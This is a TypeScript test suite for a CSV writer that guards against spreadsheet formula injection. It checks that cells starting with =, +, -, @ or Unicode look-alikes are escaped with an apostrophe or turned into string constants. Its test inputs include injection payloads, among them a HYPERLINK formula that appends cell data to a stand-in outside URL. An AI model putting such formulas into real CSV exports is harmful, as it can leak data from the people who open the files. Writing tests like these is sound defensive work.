import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { characterKind, csvLine, inert, inertBy } from "./csv.ts";

/**
 * What a spreadsheet displays for a CSV cell: the number, date or boolean it parses, or its text. Throws for a formula
 * that is more than a string constant.
 */
function shown(cell: string): string {
  if (/^[=@＝]/u.test(cell)) {
    const constant = /^="([^"\p{Cc}]{0,255})"$|^=\("([^"\p{Cc}]{0,255})"\)$/u.exec(cell);
    if (!constant) throw new Error(`a formula: ${cell}`);
    return constant[1] ?? constant[2]!;
  }
  const text = cell.trim();
  if (/^(?:true|false)$/i.test(text)) return text.toUpperCase();
  const day = /^(\d{1,2})[-/](\d{1,2})$/.exec(text) ?? /^([a-z]{3})-?(\d{1,2})$/i.exec(text);
  if (day && !Number.isNaN(Date.parse(`${day[1]} ${day[2]} 2026`))) return `day ${day[1]} ${day[2]}`;
  const number = text.replaceAll(/(?<=\d),(?=\d{3})/g, "");
  if (/^[+-]/.test(text) && Number.isNaN(Number(number))) throw new Error(`a formula: ${cell}`);
  // Number() parses octal and binary digits as well; no program that reads tables does.
  return text === "" || /^[+-]?0[ob]/i.test(text) || Number.isNaN(Number(number))
    ? cell
    : String(Number(Number(number).toPrecision(11)));
}
/** The cells of one line, as another parser reads them. */
const cellsOf = (line: string): string[] => parse(line, { record_delimiter: "\r\n" })[0]!;

/** Texts of at least this length, of the characters the guard skips and those it looks for. */
const LONG_TEXTS: readonly [name: string, of: (length: number) => string][] = [
  ["line breaks between letters", (length) => `a${"\n".repeat(length)}b`],
  ["line breaks and a sign", (length) => `${"\r\n".repeat(length)}=`],
  ["blanks", (length) => " ".repeat(length)],
  ["blanks and a sign", (length) => `${"\u00a0 ".repeat(length)}-`],
  ["tabs", (length) => "\t".repeat(length)],
  ["separators and blanks", (length) => `a${"; ".repeat(length)}b`],
  ["signs", (length) => "=".repeat(length)],
  ["signs after line breaks", (length) => "\n=".repeat(length)],
  ["quotation marks", (length) => `;${'"'.repeat(length)}=`],
  ["characters nobody sees", (length) => `;${"\u200d".repeat(length)}=`],
  ["wide signs after wide blanks", (length) => ";\u3000＝".repeat(length)],
];

describe("inert", () => {
  test.each([
    ["=1+1", "'=1+1"],
    ['=HYPERLINK("http://x.test?"&A1)', '\'=HYPERLINK("http://x.test?"&A1)'],
    ["+491234", "'+491234"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["  =1", "'  =1"],
    ["\t=1", "'\t'=1"],
    ["\r=1", "'\r'=1"],
    ["\tx", "'\tx"],
    ["\u00a0=1", "'\u00a0=1"],
    ["\ufeff=1", "'\ufeff=1"],
    ["\u200b=1", "'\u200b=1"],
    ["＝1＋1", "'＝1＋1"],
    ["－1", "'－1"],
    ["＠x", "'＠x"],
    ["﹦1", "'﹦1"],
    ["−1", "'−1"],
    ["x;=1", "x;'=1"],
    ["x\n=1\n-2", "x\n'=1\n'-2"],
    ["x\t@y", "x\t'@y"],
    ["x,=1", "x,'=1"],
    ['x;"=1', "x;\"'=1"],
    ["x;\u200d\ufe0f=1", "x;\u200d\ufe0f'=1"],
    ["\u3164=1", "'\u3164=1"],
    ["\u207a1", "'\u207a1"],
    ["\u2028=1\u2028=1", "'\u2028'=1\u2028'=1"],
    ["\nx", "'\nx"],
  ])("puts an apostrophe before what would run: %j", (text, made) => {
    expect(inert(text)).toBe(made);
  });

  test.each(["Ana", "a=b", "1987-02-03", "a@b.test", "Díaz-Łu", "2026-05-01T00:00:00.000Z", "O'Neil", "", "a, b"])(
    "leaves %j as it is",
    (text) => {
      expect(inert(text)).toBe(text);
    },
  );

  test.each(LONG_TEXTS)("looks at each character once: %s", (_, of) => {
    for (const length of [1000, 8000]) {
      const text = of(length);
      let looked = 0;
      const made = inertBy(text, (code) => {
        looked += 1;
        return characterKind(code);
      });
      expect(looked).toBe([...text].length);
      expect(made.length).toBeLessThanOrEqual(2 * text.length + 1);
    }
  });

  test("leaves no cell that begins like a formula, for any text", () => {
    const piece = fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      "＝",
      "−",
      "\t",
      "\r",
      "\n",
      " ",
      ";",
      '"',
      ",",
      "a",
      "'",
      "\ufeff",
    );
    const begins = /(^|[;\t\r\n])[\s\u200b]*[=+\-@＝−]/u;
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const made = inert(pieces.join(""));
        expect(made).not.toMatch(begins);
        expect(made).not.toMatch(/^[\t\r]/);
      }),
    );
  });
});

describe("csvLine", () => {
  test.each(LONG_TEXTS)("writes a megabyte of %s", (_, of) => {
    const text = of(1_000_000);
    const isWhole = csvLine([text]).replaceAll(/['"]/g, "") === `${text.replaceAll('"', "")}\r\n`;
    expect(isWhole).toBe(true);
  });

  test.each([
    ["\u0000=1+1", "'=1+1"],
    ["\u0000\u0002\u009f\u200b\ufeff\u202e\uffff=1", "'=1"],
    ["x;\u0000=1", '"x;\'=1"'],
    ["x\n\u0000=1", '"x\n\'=1"'],
    ["A\u0000-\u000717", "A-17"],
    ["न\u200dम", "न\u200dम"],
  ])("leaves out what nobody sees, before it looks for formulas: %j", (text, cell) => {
    expect(csvLine([text])).toBe(`${cell}\r\n`);
  });

  test("leaves no control character and no formula, with any character before the sign", () => {
    const isInert = /^"?(?:'[^=]?|(?:a;|')[^=]?')=1\+1/u;
    for (let code = 0; code <= 0xffff; code++) {
      const character = String.fromCodePoint(code);
      if (/[\p{L}\p{M}\p{N}\p{P}\p{S}\p{Cs}\p{Cn}\p{Co}]/u.test(character)) continue;
      for (const text of [`${character}=1+1`, `a;${character}=1+1`]) {
        const line = csvLine([text]);
        if (!isInert.test(line) || !/^[^\0-\x08\v\f\x0e-\x1f\x7f-\x9f]*$/.test(line)) {
          expect.fail(`${JSON.stringify(text)} became ${JSON.stringify(line)}`);
        }
      }
    }
  });

  test.each([
    ["0017", '="0017"'],
    ["1E5", '="1E5"'],
    ["1234567e10", '="1234567e10"'],
    ["-17", '="-17"'],
    [" 0017", '=" 0017"'],
    ["\u00000017", '="0017"'],
    ["MAR1", '="MAR1"'],
    ["1-2", '="1-2"'],
    ["1".repeat(255), `="${"1".repeat(255)}"`],
  ])("writes a text that would be shown otherwise as a formula that yields it: %j", (text, cell) => {
    expect(cellsOf(csvLine(["x", text]))).toEqual(["x", cell]);
    expect(shown(cell)).toBe(text.replace("\0", ""));
  });

  test.each([
    ["0017\n", "'0017\n"],
    ["\t0017", "'\t0017"],
    ["0\n-1", "'0\n'-1"],
    ["1".repeat(256), `'${"1".repeat(256)}`],
  ])("puts an apostrophe before one that no formula can yield: %j", (text, cell) => {
    expect(cellsOf(csvLine(["x", text]))).toEqual(["x", cell]);
  });

  test.each(["17", "A-17", "M0017", "123-45-6789", "12ab34ef90", "Ana", "O'Neil", "'0017", '0017"', '"0017"'])(
    "writes %j as it is",
    (text) => {
      expect(cellsOf(csvLine(["x", text]))).toEqual(["x", text]);
    },
  );

  test("begins no line with a formula that other cells could continue", () => {
    // One cell for a program with other separators: it ends in a bracket, after which a quotation mark is an error.
    expect(csvLine(["1E5", "&A1&", "0017"])).toBe('"=(""1E5"")",&A1&,"=""0017"""\r\n');
  });

  test("writes dates and times unchanged, and anything that only looks like one as text", () => {
    const moments = ["1987-02-03", "2026-05-01T10:00:00.000Z", "2026-05-01 10:00", "=1+1", "0017"];
    expect(cellsOf(csvLine(["x", ...moments.map((moment) => ({ moment }))]))).toEqual([
      "x",
      ...moments.slice(0, 3),
      "'=1+1",
      '="0017"',
    ]);
  });

  test("lets no text break out of its formula, and displays every text as stored or with apostrophes", () => {
    const piece = fc.constantFrom(
      ..."01 7eE+-./:,;=@'\"()%$#!&\t\n\0\u200b",
      '"&',
      '")',
      "mar",
      "MAR",
      "true",
      "A",
      "x1",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 7 }), (pieces) => {
        const text = pieces.join("");
        const stored = text.replaceAll(/[\0\u200b]/g, "");
        for (const cell of cellsOf(csvLine([text, text]))) {
          if (shown(cell) === stored) continue;
          expect(shown(cell).replaceAll("'", "")).toBe(stored.replaceAll("'", ""));
          expect(cell).toMatch(/[\t\n,;"]|^'/);
        }
      }),
      { numRuns: 2000 },
    );
  });

  test("writes numbers unchanged, including negative ones, null as an empty cell, and ends with CR LF", () => {
    expect(csvLine([-0.25, 0, 1e-7, null, "x"])).toBe("-0.25,0,1e-7,,x\r\n");
  });

  test("is parsed by another reader as it was written, for any text", () => {
    const text = fc.string({ unit: "grapheme", maxLength: 12 }).map((it) => it.replaceAll(/[=+\-@]/g, ""));
    const hostile = fc.constantFrom('"', '""', 'a"b', "a,b", "a\r\nb", "\n", " x ", ";", "'", "a\rb", ",", "٤", "８ (");
    // A text that would be shown as a number is a formula, also one in the digits of another script.
    const constantOf = (cell: string) => /^=\(?"([^"]*)"\)?$/.exec(cell)?.[1] ?? cell;
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.oneof(text, hostile), { minLength: 2, maxLength: 2 }), { minLength: 1 }),
        (lines) => {
          const read = parse(lines.map(csvLine).join(""), { relax_column_count: false, record_delimiter: "\r\n" });
          const texts = read.map((cells) => cells.map(constantOf));
          expect(texts).toEqual(lines.map((cells) => cells.map(inert)));
        },
      ),
    );
  });
});
